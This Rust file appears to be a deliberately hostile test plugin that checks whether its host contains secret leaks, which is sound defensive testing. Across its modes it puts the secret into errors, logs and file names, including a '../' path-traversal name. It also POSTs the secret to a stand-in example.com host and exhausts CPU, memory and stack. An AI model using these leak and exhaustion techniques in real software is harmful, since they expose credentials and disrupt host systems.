//! The ways out that are tried, by the value of `mode`.

use std::hint::black_box;

use crate::bursar::plugin::types::{Error, Part, Violation};
use crate::bursar::plugin::{clock, http, log, signing};
use crate::exports::bursar::plugin::{form::Rewrite, materializer::Artifact};
use serde_json::{Value, json};

/// Refusals by the half that should have seen no secret.
pub(crate) fn inspect(mode: &str, seen: &str) -> Result<(), Error> {
    match mode {
        "inspect-violation" => Err(violation("/mode", "seen", seen)),
        "inspect-internal" => Err(Error::Internal(seen.to_owned())),
        "inspect-panic" => panic!("{seen}"),
        "inspect-loop" => spin(),
        _ => Ok(()),
    }
}

/// What `inspect` calls the normalised data.
pub(crate) fn normalised(mode: &str, public: &Value, seen: &str) -> String {
    let mut data = public.clone();
    data["note"] = json!(seen);
    match mode {
        "inspect-plants-secret" => data["secret"] = json!("planted"),
        "inspect-unknown-field" => data["elsewhere"] = json!(seen),
        "inspect-huge" => data["note"] = json!("x".repeat(1 << 20)),
        _ => {}
    }
    data.to_string()
}

/// With the secret in hand.
pub(crate) fn check(mode: &str, secret: &str) -> Result<Vec<Rewrite>, Error> {
    match mode {
        "check-message" => Err(violation("/secret", "declared", secret)),
        "check-code" => Err(violation("/secret", secret, "no")),
        "check-pointer" => Err(violation(&format!("/{secret}"), "declared", "no")),
        "check-deep-pointer" => Err(violation(&format!("/secret/{secret}"), "declared", "no")),
        "check-denied" => Err(Error::Denied(secret.to_owned())),
        "check-not-found" => Err(Error::NotFound(secret.to_owned())),
        "check-unavailable" => Err(Error::Unavailable(secret.to_owned())),
        "check-unsupported" => Err(Error::Unsupported(secret.to_owned())),
        "check-internal" => Err(Error::Internal(secret.to_owned())),
        "check-throttled" => Err(Error::Throttled(Some(secret.bytes().map(u32::from).sum()))),
        "check-panic" => panic!("{secret}"),
        "check-trap" => core::arch::wasm32::unreachable(),
        "check-loop" => spin(),
        "check-allocate" => Ok(allocate()),
        "check-recurse" => Ok(vec![rewrite("/secret", &json!(recurse(secret, 0)))]),
        "check-huge" => Ok((0..200_000).map(|n| rewrite(&format!("/{n}"), &json!(secret))).collect()),
        "check-many-violations" => Err(Error::Invalid(
            (0..100_000)
                .map(|_| Violation { pointer: secret.into(), code: secret.into(), message: secret.into() })
                .collect(),
        )),
        "check-log" => {
            for level in [log::Level::Debug, log::Level::Info, log::Level::Warn, log::Level::Error] {
                log::log(level, secret);
            }
            Ok(Vec::new())
        }
        "check-network" => Err(violation("/secret", "declared", &send(secret))),
        "check-rewrites-note" => Ok(vec![rewrite("/note", &json!(secret))]),
        "check-rewrites-derived" => Ok(vec![rewrite("/derived", &json!(secret))]),
        "check-rewrites-mode" => Ok(vec![rewrite("/mode", &json!(secret))]),
        "check-rewrites-all" => Ok(vec![rewrite("", &json!({ "mode": secret, "secret": "x" }))]),
        "check-rewrites-deep" => Ok(vec![rewrite("/secret", &json!({ "under": secret }))]),
        "check-bad-json" => Ok(vec![Rewrite { pointer: "/secret".to_owned(), value: format!("{{{secret}") }]),
        _ => Ok(Vec::new()),
    }
}

/// With the secret in hand, files may hold it and nothing else.
pub(crate) fn materialize(mode: &str, secret: &str, format: &str) -> Result<Vec<Artifact>, Error> {
    log::log(log::Level::Error, secret);
    match mode {
        "artifact-name" => Ok(vec![artifact(secret, "text/plain", "x")]),
        "artifact-path" => Ok(vec![artifact(&format!("../{secret}"), "text/plain", "x")]),
        "artifact-media-type" => Ok(vec![artifact("loot", &format!("text/{secret}; x={secret}"), "x")]),
        "artifact-twice" => Ok(vec![artifact("loot", "text/plain", secret), artifact("loot", "text/plain", secret)]),
        "artifact-huge" => Ok(vec![artifact("loot", "text/plain", &"x".repeat(2 << 20))]),
        "artifact-error" => Err(violation(&format!("/{secret}"), secret, secret)),
        "artifact-denied" => Err(Error::Denied(secret.to_owned())),
        "artifact-panic" => panic!("{secret} in {format}"),
        "artifact-loop" => spin(),
        _ => Ok(vec![artifact("loot", "text/plain", secret)]),
    }
}

fn send(secret: &str) -> String {
    let text = vec![Part::Text(secret.to_owned())];
    let sent = http::send(&http::Request {
        method: "POST".to_owned(),
        url: format!("https://{secret}.example.com/"),
        query: vec![http::Field { name: "q".to_owned(), value: text.clone() }],
        headers: Vec::new(),
        body: Some(text.clone()),
        endpoint: None,
    });
    let digest = signing::digest_text(signing::DigestAlgorithm::Sha256, secret.as_bytes());
    format!("{:?} {:?} {digest:?} {secret}", sent.is_ok(), clock::now())
}

fn violation(pointer: &str, code: &str, message: &str) -> Error {
    Error::Invalid(vec![Violation { pointer: pointer.to_owned(), code: code.to_owned(), message: message.to_owned() }])
}

fn rewrite(pointer: &str, value: &Value) -> Rewrite {
    Rewrite { pointer: pointer.to_owned(), value: value.to_string() }
}

fn artifact(name: &str, media_type: &str, content: &str) -> Artifact {
    Artifact {
        name: name.to_owned(),
        media_type: media_type.to_owned(),
        content: content.as_bytes().to_vec(),
        sensitive: false,
    }
}

fn spin() -> ! {
    loop {
        black_box(0);
    }
}

fn allocate() -> Vec<Rewrite> {
    let mut kept = Vec::new();
    loop {
        kept.push(black_box(vec![1_u8; 1 << 20]));
    }
}

fn recurse(secret: &str, depth: u64) -> String {
    let frame = black_box([depth; 64]);
    let below = if frame[1] == u64::MAX { secret.to_owned() } else { recurse(secret, depth + 1) };
    format!("{below}{}", frame[0])
}
